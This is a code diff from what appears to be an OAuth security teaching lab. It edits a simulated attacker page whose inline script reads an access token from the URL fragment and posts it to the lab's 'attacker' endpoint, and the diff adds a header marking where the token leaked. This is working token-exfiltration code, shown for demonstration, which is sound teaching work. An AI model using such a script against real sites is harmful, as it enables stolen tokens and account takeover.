@@ -10,6 +10,7 @@ import { lootStore } from './loot';
  * alice's browser. Its script reads the token from the address's fragment, which the browser carried
  * across the redirect, posts it to the attacker's server, and hands the tab back to the lab (/callback)
  * saying what it caught. Fragments never reach a server by themselves: a script on the page must read them.
+ * The script's request says it comes from alice's browser (x-playground-from), where the token leaked.
  */
 export const TOKEN_CATCHER_PAGE = '/attacks/attacker/token-catcher';
 export const TOKEN_CATCHER_LOOT = '/api/attacker/token-catcher';
@@ -21,7 +22,7 @@ const SCRIPT =
   "function back(c){location.replace('/callback?'+new URLSearchParams({attacker_caught:c}))}" +
   "if(!t){s.textContent='Nothing in this page\\u2019s address: no fragment, no token.';back('nothing');return}" +
   "s.textContent='Found an access token in the fragment; sending it to the attacker\\u2019s server.';" +
-  `fetch(${JSON.stringify(TOKEN_CATCHER_LOOT)},{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded'},` +
+  `fetch(${JSON.stringify(TOKEN_CATCHER_LOOT)},{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded','x-playground-from':'resource-owner'},` +
   "body:new URLSearchParams({access_token:t})}).then(function(r){back(r.ok?'access_token':'nothing')}," +
   "function(){back('nothing')})})();";
 
